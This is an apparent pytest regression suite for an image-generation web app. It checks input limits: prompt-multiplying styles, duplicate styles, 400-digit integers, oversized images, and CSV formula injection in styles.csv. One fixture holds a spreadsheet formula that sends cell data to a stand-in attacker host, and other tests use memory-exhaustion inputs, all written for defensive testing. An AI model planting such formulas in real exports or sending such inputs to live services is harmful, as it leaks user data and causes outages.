"""Limits a hostile test of the public app (issue #22) found checked too late
or not at all: each input is refused before it costs memory, with a 400 (or
413) in the one error shape naming the field. Each test failed before its fix;
the docstrings say what a user saw then."""
from __future__ import annotations

import tracemalloc

import pytest

from helpers import assert_error, gradient, peak_rss_growth, png_b64, small_job

MB = 1 << 20


@pytest.fixture
def styled(make_app, tmp_path):
    return make_app(STYLES=str(tmp_path / "styles.csv"), ENGINE=None, START_WORKER=False).test_client()


def _put_style(client, name: str, prompt: str) -> None:
    response = client.put(f"/api/styles/{name}", json={"prompt": prompt})
    assert response.status_code in (200, 201), response.get_json()


def test_styles_that_multiply_the_prompt_are_refused_before_it_is_built(styled):
    """A style holding ``{prompt}`` 125 times (1000 characters, within the limit) multiplies
    the prompt by 125 each time it applies: three of them on a 64-character prompt built a
    125 M character prompt (and its repr for the error) before the 400 for its length,
    hundreds of MB per request; the reporter's three-fold repeat peaked at 4.3 GB."""
    for name in ("echo1", "echo2", "echo3"):
        _put_style(styled, name, "{prompt}" * 125)
    tracemalloc.start()
    try:
        response = styled.post("/api/jobs", json=small_job(prompt="x" * 64, styles=["echo1", "echo2", "echo3"]))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 100 * MB, f"the request peaked at {peak / MB:.0f} MB"
    body = assert_error(response, 400, "prompt")
    assert "8000 characters" in body["error"] and "limit is 1000" in body["error"], body  # 64 * 125, the size


def test_a_style_named_twice_is_refused(styled):
    """Naming a style twice applied it twice (A1111 does): with ``{prompt}`` in it, the
    multiplication above from a single style. Nobody means it; it is named."""
    _put_style(styled, "frame", "art of {prompt}")
    body = assert_error(styled.post("/api/jobs", json=small_job(styles=["frame", "frame"])), 400, "styles")
    assert "'frame' is named twice" in body["error"]
    assert_error(styled.post("/sdapi/v1/txt2img", json={"prompt": "a", "styles": ["frame", "frame"]}), 400, "styles")


def test_the_styles_one_request_names_are_bounded(styled):
    from app.engine.styles import MAX_REQUEST_STYLES

    names = [f"s{i}" for i in range(MAX_REQUEST_STYLES + 1)]
    for name in names:
        _put_style(styled, name, "detailed")
    body = assert_error(styled.post("/api/jobs", json=small_job(styles=names)), 400, "styles")
    assert f"the limit is {MAX_REQUEST_STYLES}" in body["error"]
    ok = styled.post("/api/jobs", json=small_job(styles=names[:MAX_REQUEST_STYLES]))
    assert ok.status_code == 202, ok.get_json()
    assert styled.get("/api/styles").get_json()["limits"]["max_request_styles"] == MAX_REQUEST_STYLES


# --- integers past what a float holds ---------------------------------------------------------

BIG = 10**400  # a JSON number Python reads (up to 4300 digits) but no float can hold
_HIRES = {"enable_hr": True, "hr_resize_x": BIG, "hr_resize_y": 64}
_IMAGE = png_b64(gradient(64, 64))
INTS = [  # (path, body, how it is sent, the field the error names)
    ("/api/jobs", small_job(**_HIRES), "json", "hr_resize_x"),
    ("/api/jobs", small_job(**_HIRES), "form", "hr_resize_x"),
    ("/sdapi/v1/txt2img", {"prompt": "a", "steps": 2, **_HIRES}, "json", "hr_resize_x"),
    ("/sdapi/v1/extra-single-image", {"image": _IMAGE, "resize_mode": 1, "upscaling_resize_w": BIG}, "json", "upscaling_resize_w"),
    ("/sdapi/v1/extra-single-image", {"image": _IMAGE, "resize_mode": 1, "upscaling_resize_h": BIG}, "json", "upscaling_resize_h"),
    ("/api/upscale", {"image": _IMAGE, "width": BIG}, "json", "width"),
    ("/api/upscale", {"image": _IMAGE, "height": BIG}, "json", "height"),
]


@pytest.mark.parametrize("path,body,kind,field", INTS, ids=[f"{p} {f} {k}" for p, _, k, f in INTS])
def test_a_400_digit_integer_is_a_400_naming_the_field(make_app, path, body, kind, field):
    """A 400-digit width, height or hires size was a 500 "internal error (OverflowError)"
    wherever it met a float (``width / w`` in the upscale size, ``resize_x / resize_y`` in
    the hires size). Every JSON body and form is now checked once, on parsing."""
    client = make_app(ENGINE=None, START_WORKER=False, SYNC_TIMEOUT=1).test_client()
    if kind == "form":
        response = client.post("/api/jobs", data={k: str(v) for k, v in body.items()})
    else:
        response = client.post(path, json=body)
    answer = assert_error(response, 400, field)
    assert "401 digits" in answer["error"], answer


# --- images larger than the request can use ---------------------------------------------------

def _blank_png(width: int, height: int, mode: str = "RGBA") -> str:
    """A few KB on disk (one colour compresses to nothing), width * height * 4 bytes decoded."""
    from PIL import Image

    return png_b64(Image.new(mode, (width, height)))


@pytest.fixture(scope="module")
def huge_png():
    return _blank_png(4096, 4096)  # 64 MB of pixels; within MAX_UPLOAD_PIXELS (4096 * 4096)


@pytest.mark.parametrize("path,body,field", [
    ("/api/jobs", small_job(init_image=_IMAGE), "mask"),
    ("/sdapi/v1/img2img", {"prompt": "a", "steps": 2, "init_images": [_IMAGE]}, "mask"),
    ("/api/upscale", {"scale": 2}, "scale"),
    ("/sdapi/v1/extra-single-image", {"upscaling_resize": 2}, "upscaling_resize"),
], ids=["jobs mask", "img2img mask", "upscale", "extras"])
def test_an_image_too_large_for_its_use_is_refused_from_its_header(make_app, huge_png, path, body, field):
    """A 4096x4096 mask (a 90 KB PNG; the largest image made here is 1024x1024) was
    decoded, 64 MB, then refused by validation; 16 such requests at once cost 1.5 GB.
    An image to upscale was decoded before the result's size was checked. The size in
    the header is enough to refuse both, with the same answer."""
    client = make_app(ENGINE=None, START_WORKER=False).test_client()
    key = "mask" if field == "mask" else "image"
    response, growth = peak_rss_growth(lambda: client.post(path, json={**body, key: huge_png}))
    body = assert_error(response, 400, field)
    assert "4096x4096" in body["value"] or "8192x8192" in body["error"], body
    assert growth < 16 * MB, f"the request grew the peak RSS by {growth / MB:.0f} MB"


# --- styles.csv opened in a spreadsheet -------------------------------------------------------

FORMULAS = [  # (name, prompt, negative prompt) as a user writes them
    ("+1 boost", '=HYPERLINK("http://evil.example/?"&A1,"click")', "-blurry"),
    ("@artist", "@{prompt} by Artist", "+lowres"),
    ("-minus", "\t=1+1 tab first", "\r=1+1 return first"),
    ("'+quoted", "'=already quoted", "''-two quotes"),
    ("plain 'one'", "'just a quote", "a = b, c - d"),
]


def test_styles_csv_holds_no_formula_and_reads_back_what_was_written(styled, tmp_path):
    """Names and texts beginning with ``= + - @`` were written raw into styles.csv:
    opened in Excel or LibreOffice, ``=HYPERLINK(...)`` is a live formula (OWASP's CSV
    injection). They are written after a ``'`` (a spreadsheet shows text), and read back,
    by GET /api/styles and by the jobs that apply them, exactly as they were written."""
    import csv

    for name, prompt, negative in FORMULAS:
        response = styled.put(f"/api/styles/{name}", json={"prompt": prompt, "negative_prompt": negative})
        assert response.status_code == 201, response.get_json()
        assert response.get_json()["style"] == {"name": name, "prompt": prompt, "negative_prompt": negative}
    raw = (tmp_path / "styles.csv").read_bytes().decode("utf-8")
    with open(tmp_path / "styles.csv", newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]  # what a spreadsheet puts in each cell
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], raw
    assert "'=HYPERLINK(" in raw and "'-blurry" in raw and "'+1 boost" in raw and "''=already quoted" in raw
    assert "'just a quote" in raw and "'''-two quotes" in raw  # a quote before no formula is left alone

    assert _listed(styled.get("/api/styles").get_json()["styles"]) == FORMULAS
    assert _listed(styled.get("/sdapi/v1/prompt-styles").get_json()) == FORMULAS
    params = styled.post("/api/jobs", json=small_job(prompt="a fox", styles=["@artist"])).get_json()["job"]["params"]
    assert (params["prompt"], params["negative_prompt"]) == ("@a fox by Artist", "+lowres")
    # An edit rewrites every row: what was read back is written again unchanged.
    assert styled.put("/api/styles/plain 'one'", json={"prompt": "x"}).status_code == 200
    assert _listed(styled.get("/api/styles").get_json()["styles"])[:4] == FORMULAS[:4]


def _listed(styles: list[dict]) -> list[tuple[str, str, str]]:
    return [(s["name"], s["prompt"], s["negative_prompt"]) for s in styles]
